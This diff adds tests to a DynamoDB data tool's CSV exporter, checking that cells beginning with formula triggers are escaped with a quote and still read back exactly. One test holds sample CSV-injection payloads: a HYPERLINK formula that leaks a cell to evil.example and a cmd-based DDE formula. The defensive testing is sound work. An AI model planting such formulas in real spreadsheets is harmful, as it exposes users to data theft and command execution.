@@ -15,6 +15,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from dynamodbmanager.datatools.formats import (
+    FORMULA_TRIGGERS,
     csv_cell,
     dump_item,
     dump_typed_item,
@@ -25,6 +26,7 @@ from dynamodbmanager.datatools.formats import (
     read_dynamodb_json,
     read_jsonl,
     read_records,
+    unescape_formula,
 )
 from dynamodbmanager.datatools.import_ import check_item, check_typed_item
 from dynamodbmanager.datatools.progress import Progress
@@ -469,3 +471,113 @@ def test_a_lossy_value_names_the_item_by_its_whole_key(tmp_path: Path) -> None:
 def test_number_and_binary_keys_lead_a_dynamodb_json_line() -> None:
     line = dump_typed_item({"v": {"N": "1.5"}, "at": {"B": b"\x00"}, "sensor": {"N": "12"}}, READINGS.key_names)
     assert line == '{"Item":{"sensor":{"N":"12"},"at":{"B":"AA=="},"v":{"N":"1.5"}}}'
+
+
+# CSV injection: no text cell starts as a spreadsheet formula, and every value still reads back exactly.
+
+TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def csv_file(folder: Path, items: list[dict[str, Any]], *, raw: bool = False) -> bytes:
+    """The bytes of a CSV export of plain ``items`` (``raw``: with ``csv_raw``)."""
+    target = folder / "out.csv"
+    writer = open_output(str(target), "csv", csv_raw=raw)
+    for item in items:
+        writer.write(serialize(item))
+    writer.close()
+    return target.read_bytes()
+
+
+def cells(data: bytes) -> list[str]:
+    """Every cell of a CSV file, header included, as a spreadsheet gets it."""
+    return [cell for row in csv.reader(io.StringIO(data.decode(), newline="")) for cell in row]
+
+
+def json_string(text: str) -> str:
+    """``text`` as a JSON string literal: the cell of a string that would not read back as plain text."""
+    return '"' + text.replace("\t", "\\t").replace("\r", "\\r") + '"'
+
+
+@pytest.mark.parametrize("trigger", TRIGGERS)
+def test_a_text_cell_starting_with_a_formula_trigger_is_written_after_a_quote(tmp_path: Path, trigger: str) -> None:
+    item = {"id": trigger + "1+1", "s": trigger + "SUM(A1:A9)", trigger + "col": "x"}
+    data = csv_file(tmp_path, [item])
+    written = cells(data)
+    assert not [cell for cell in written if cell[:1] in FORMULA_TRIGGERS], written
+    assert "'" + trigger + "1+1" in written, "a string key cell is quoted"
+    assert "'" + trigger + "col" in written, "a column name is quoted"
+    if trigger in "\t\r":
+        # A value with a leading blank is JSON-quoted already: its cell starts with a double quote.
+        assert csv_cell(trigger + "SUM(A1:A9)") == json_string(trigger + "SUM(A1:A9)")
+    else:
+        assert "'" + trigger + "SUM(A1:A9)" in written
+    assert [record.item for record in read_csv(io.BytesIO(data))] == [item]
+
+
+def test_the_typical_injections_become_text() -> None:
+    assert csv_cell('=HYPERLINK("http://evil.example/?"&A1,"click")') == (
+        "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    )
+    assert csv_cell("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert csv_cell("+1+1") == "'+1+1"
+    assert csv_cell("-1+1") == "'-1+1"
+    assert csv_cell("-") == "'-"
+
+
+def test_a_leading_quote_is_doubled_only_where_it_would_be_taken_for_an_added_one() -> None:
+    assert csv_cell("'=x") == "''=x"
+    assert csv_cell("'-5") == "''-5"
+    assert csv_cell("''") == "'" * 3
+    assert csv_cell("'\tx") == "''\tx"
+    assert csv_cell("'") == "'"
+    assert csv_cell("'quoted'") == "'quoted'"
+    assert csv_cell("it's") == "it's"
+    assert unescape_formula("'quoted'") == "'quoted'"
+    assert unescape_formula("''=x") == "'=x"
+
+
+def test_numbers_stay_numbers_and_a_negative_one_is_not_quoted(tmp_path: Path) -> None:
+    item = {"id": "n", "a": -5, "b": Decimal("-1.5"), "c": Decimal("-1E+100"), "d": 0, "e": "-5", "f": "-1.5E+3"}
+    data = csv_file(tmp_path, [item])
+    assert data == b'id,a,b,c,d,e,f\r\nn,-5,-1.5,-1E+100,0,"""-5""","""-1.5E+3"""\r\n'
+    (record,) = read_csv(io.BytesIO(data))
+    assert record.item == item
+    assert record.item is not None
+    assert check_item(record.item)["a"] == {"N": "-5"}
+    assert check_item(record.item)["e"] == {"S": "-5"}
+
+
+def test_strings_starting_with_a_trigger_or_a_quote_read_back_exactly(tmp_path: Path) -> None:
+    starts = [*TRIGGERS, "'", "''", "'=", "'\t", '"', " ", "'a"]
+    item = {"id": "k", **{f"v{n}": start + "x" for n, start in enumerate(starts)}, "q": "'", "qq": "''"}
+    (record,) = read_csv(io.BytesIO(csv_file(tmp_path, [item])))
+    assert record.item == item
+
+
+def test_csv_raw_writes_and_reads_cells_as_they_are(tmp_path: Path) -> None:
+    item = {"id": "=1+1", "f": "@SUM(A1)", "q": "'=x", "n": -5}
+    data = csv_file(tmp_path, [item], raw=True)
+    assert data == b"id,f,n,q\r\n=1+1,@SUM(A1),-5,'=x\r\n"
+    (record,) = read_csv(io.BytesIO(data), raw=True)
+    assert record.item == item
+    # Read as a quoted export, the one cell that looks quoted loses its quote: a raw file wants --csv-raw.
+    (record,) = read_records(io.BytesIO(data), "csv")
+    assert record.item == {**item, "q": "=x"}
+    (record,) = read_records(io.BytesIO(data), "csv", csv_raw=True)
+    assert record.item == item
+
+
+#: Text made mostly of what starts a formula or escapes one, so the edge cases come up often.
+tricky_text = st.text(alphabet=st.sampled_from([*TRIGGERS, "'", '"', " ", "a", "1", "{", "\n"]), min_size=1, max_size=6)
+
+
+@settings(deadline=None)  # a loaded machine must not fail a test on time
+@given(tricky_text, tricky_text, tricky_text)
+def test_any_key_value_and_column_name_reads_back_and_never_starts_a_formula(
+    tmp_path_factory: pytest.TempPathFactory, key: str, value: str, name: str
+) -> None:
+    item = {"id": key, name: value} if name != "id" else {"id": key}
+    data = csv_file(tmp_path_factory.mktemp("csv"), [item])
+    assert not [cell for cell in cells(data) if cell[:1] in FORMULA_TRIGGERS]
+    (record,) = read_csv(io.BytesIO(data))
+    assert record.item == item
